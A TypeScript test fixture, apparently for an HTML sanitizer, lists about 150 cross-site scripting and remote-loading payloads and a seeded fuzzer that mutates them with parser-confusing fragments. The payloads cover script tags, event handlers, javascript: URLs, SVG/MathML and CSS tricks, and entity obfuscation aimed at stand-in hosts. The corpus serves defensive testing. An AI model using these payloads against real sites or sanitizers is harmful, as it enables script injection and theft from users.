/*
 * NAME
 *   hostile-pages - pages that run a script or ask another machine
 *
 * DESCRIPTION
 *   RUN is the script, LOAD the address: each reaches a host that no one has.
 *   mutated() makes more of a page, by seed: other cases, blanks, references,
 *   what opens a comment or a value too early, and pages in one another.
 */

export const RAN = 'http://ran.test/'
export const LOADED = 'http://loaded.test/'

const RUN = `new Image().src='${RAN}'`
const URL_RUN = `javascript:${RUN}`

/** Elements, attributes, addresses and ways to hide them. */
export const HOSTILE_PAGES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<script/x>${RUN}</script/x>`,
  `<script src="${LOADED}a.js"></script>`,
  `<script src=//loaded.test/a.js></script>`,
  `<script><!--<script></script>${RUN}//--></script>`,
  `<scr<script></script>ipt>${RUN}</script>`,
  `<scri<script>x</script>pt>${RUN}</scri</script>pt>`,
  `<script type=module>import '${LOADED}m.js'</script>`,
  `<script>${RUN}`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${LOADED}a.js"/></svg>`,
  `<svg><script xlink:href="${LOADED}a.js"></script></svg>`,
  `<svg><script>new&#32;Image().src='${RAN}'</script></svg>`,
  `<svg onload="${RUN}">`,
  `<svg/onload="${RUN}">`,
  `<svg/x/onload=${RUN.replace(' ', '&#32;')}>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="${URL_RUN}"/><text y=9>x</text></a></svg>`,
  `<svg><image href="${LOADED}a.png" width=9 height=9 /></svg>`,
  `<svg><image xlink:href="${LOADED}a.png" width=9 height=9 /></svg>`,
  `<svg><image width=9 height=9><set attributeName=href to="${LOADED}a.png"/></image></svg>`,
  `<svg><feImage href="${LOADED}a.png"/></svg>`,
  `<svg><use href="${LOADED}a.svg#a"/></svg>`,
  `<svg><style>@import '${LOADED}a.css';</style></svg>`,
  `<svg><style>@imp&#111;rt '${LOADED}a.css';</style></svg>`,
  `<svg><style>@im<b></b>port '${LOADED}a.css';</style></svg>`,
  `<svg><style><![CDATA[@import '${LOADED}a.css';]]></style></svg>`,
  `<svg><rect width=9 height=9 fill="url(${LOADED}a.svg#a)"/></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><title><img src=x onerror="${RUN}"></title></svg>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN.replace(' ', '&#32;')}>">`,
  `<math><style><img src=x onerror="${RUN}"></style></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;" src=x onerror="${RUN}">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN.replaceAll("'", '"')}'>`,
  `<img src=x onerror=${RUN.replace(' ', '\u000b').replace('\u000b', '&Tab;')}>`,
  `<img src=x OnErRoR="${RUN}">`,
  `<img src=x\nonerror\n=\n"${RUN}">`,
  `<img src=x\tonerror="${RUN}">`,
  `<img src=x\fonerror="${RUN}">`,
  `<img/src=x/onerror="${RUN}">`,
  `<img src="x"onerror="${RUN}">`,
  `<img src='x'onerror="${RUN}">`,
  `<img """><img src=x onerror="${RUN}">`,
  `<img =">" src=x onerror="${RUN}">`,
  `<img src=x ="onerror="${RUN}">`,
  `<img src=x alt=\`>\` onerror="${RUN}">`,
  `<img src=x alt="a>b" onerror="${RUN}">`,
  `<img alt="<!--" src=x onerror="${RUN}">`,
  `<image src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!---><img src=x onerror="${RUN}">-->`,
  `<!-- --!><img src=x onerror="${RUN}">-->`,
  `<!-- <!-- --><img src=x onerror="${RUN}">-->`,
  `<!-x><img src=x onerror="${RUN}">`,
  `<?x ><img src=x onerror="${RUN}">`,
  `</><img src=x onerror="${RUN}">`,
  `</ x="><img src=x onerror="${RUN}">"`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<!DOCTYPE x [ <!ELEMENT y ><img src=x onerror="${RUN}">`,
  `<a title="</title><!--"></a><title><!--</title><img src=x onerror="${RUN}">-->`,
  `<title><img title="</title><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<textarea></textarea ><img src=x onerror="${RUN}"></textarea>`,
  `<xmp><img title="</xmp><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<noembed><img title="</noembed><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<iframe><img title="</iframe><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<style><img title="</style><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='${RUN.replaceAll("'", '&#39;')}'>">`,
  `<table><td background="${LOADED}a.png">x</table>`,
  `<body background="${LOADED}a.png">`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}">`,
  `<p>x</p><body onload="${RUN}">`,
  `<html onmouseover=x><frameset onload="${RUN}"></frameset>`,
  `<frameset><frame src="${URL_RUN}"></frameset>`,
  `<input autofocus onfocus="${RUN}">`,
  `<input type=image src="${LOADED}a.png">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<video poster="${LOADED}a.png"></video>`,
  `<video><source src=x onerror="${RUN}"></video>`,
  `<video src="${LOADED}a.mp4" autoplay></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<audio src="${LOADED}a.mp3" autoplay></audio>`,
  `<picture><source srcset="${LOADED}a.png"><img></picture>`,
  `<img srcset="a.png 1x,${LOADED}b.png 2x">`,
  `<img srcset="data:image/png;base64,AA 9x, ${LOADED}b.png 1x">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<iframe src="${URL_RUN}"></iframe>`,
  `<iframe src="${LOADED}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN.replaceAll("'", '&#39;')}&lt;/script&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<object data="${LOADED}a.html"></object>`,
  `<object data="${URL_RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<embed src="${LOADED}a.html">`,
  `<form action="${LOADED}"><input name=a></form><script>document.forms[0].submit()</script>`,
  `<meta http-equiv=refresh content="0;url=${LOADED}">`,
  `<meta http-equiv="&#114;efresh" content="0;${LOADED}">`,
  `<meta content="0;url=data:text/html,x" http-equiv=REFRESH>`,
  `<link rel=stylesheet href="${LOADED}a.css">`,
  `<link rel="alternate stylesheet" href="${LOADED}a.css">`,
  `<link rel=preload as=image href="${LOADED}a.png">`,
  `<link rel=preload as=image imagesrcset="${LOADED}a.png">`,
  `<link rel=modulepreload href="${LOADED}a.js">`,
  `<link rel=prefetch href="${LOADED}a">`,
  `<link rel=icon href="${LOADED}a.png">`,
  `<link rel=stylesheet href="data:text/css,@import '${LOADED}a.css'">`,
  `<base href="${LOADED}"><img src=a.png>`,
  `<style>@import "${LOADED}a.css";</style>`,
  `<style>@import url(${LOADED}a.css);</style>`,
  `<style>@\\69mport "${LOADED}a.css";</style>`,
  `<style>p{background:url(${LOADED}a.png)}</style><p>x`,
  `<style>p{background:u\\72l( "${LOADED}a.png" )}</style><p>x`,
  `<style>p{background:url(/**/"${LOADED}a.png")}p{background:url("\\68ttp://loaded.test/a")}</style><p>x`,
  `<style>p{background:image-set("${LOADED}a.png" 1x)}</style><p>x`,
  `<style>@font-face{font-family:f;src:url(${LOADED}f.woff)}p{font-family:f}</style><p>x`,
  `<style>p::before{content:url(${LOADED}a.png)}</style><p>x`,
  `<p style="background:url(${LOADED}a.png)">x`,
  `<p style="background:url(&quot;${LOADED}a.png&quot;)">x`,
  `<p style="list-style:u&#x72;l(//loaded.test/a.png);display:list-item">x`,
  `<p style="background:url(h\\74tp://loaded.test/a.png)">x`,
  `<img src="${LOADED}a.png">`,
  `<img src="&#104;ttp://loaded.test/a.png">`,
  `<img src="&#${'0'.repeat(70)}104;ttp://loaded.test/a.png">`,
  `<img src=" ht\ntp://loaded.test/a.png">`,
  `<img src="http:/\\loaded.test/a.png">`,
  `<img src="http:loaded.test/a.png">`,
  `<template><img src=x onerror="${RUN}"></template><div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
  `<a href="${URL_RUN}" id=a>x</a>`,
  `<a href="java&Tab;script&colon;${RUN}">x</a>`,
  `<a href="&#1;javascript:${RUN}">x</a>`,
  `<area href="${URL_RUN}">`,
  `<isindex action="${URL_RUN}" type=image>`,
  `<button formaction="${URL_RUN}">x</button>`,
  `<img src=x onerror="${RUN}"//`,
  `<p title='"><img src=x onerror="${RUN}">'><p title="'><img src=x onerror=${RUN.replace(' ', '&#32;').replaceAll("'", '&#39;')}>">`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<svg><a href="${URL_RUN}"><text y=9>x</text></a></svg>`,
  `<math href="${URL_RUN}">x</math>`,
]

/** A generator that is the same for the same seed. */
export const seeded = (seed: number): ((below: number) => number) => {
  let state = seed >>> 0 || 1
  return below => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    return (state >>> 0) % below
  }
}

const OPENERS: readonly string[] = [
  ...['<!--', '-->', '<style>', '</style>', '<title>', '</title>', '"', "'"],
  ...['<svg>', '</svg>', '<math>', '<textarea>', '</textarea>', '<![CDATA['],
  ...['<noscript>', '<template>', '<select>', '<table>', '<p title="', '>'],
  ...['<xmp>', '</xmp>', '<iframe>', '<a ', '</', '<!', '<?', '/>', '`', '='],
  ...['<script', '</script>', '<!--[if IE]>', '<![endif]-->', '\f', '/', '<'],
  ...['<noembed>', '<plaintext>', '<option>', '<foreignObject>', '<mtext>'],
]

/** A page made of others, by a seed. */
export const mutated = (seed: number): string => {
  const next = seeded(seed * 2_654_435_761 + 1)
  const pick = (): string => HOSTILE_PAGES[next(HOSTILE_PAGES.length)] ?? ''
  let page = pick()
  for (let step = next(6); step >= 0; step--) {
    const at = next(page.length + 1)
    const opener = OPENERS[next(OPENERS.length)] ?? ''
    switch (next(5)) {
      case 0:
        page = page.slice(0, at) + pick() + page.slice(at)
        break
      case 1:
        page = opener + page
        break
      case 2:
        page = page.slice(0, at) + page.slice(at + 1 + next(3))
        break
      default:
        page = page.slice(0, at) + opener + page.slice(at)
    }
  }
  return page
}
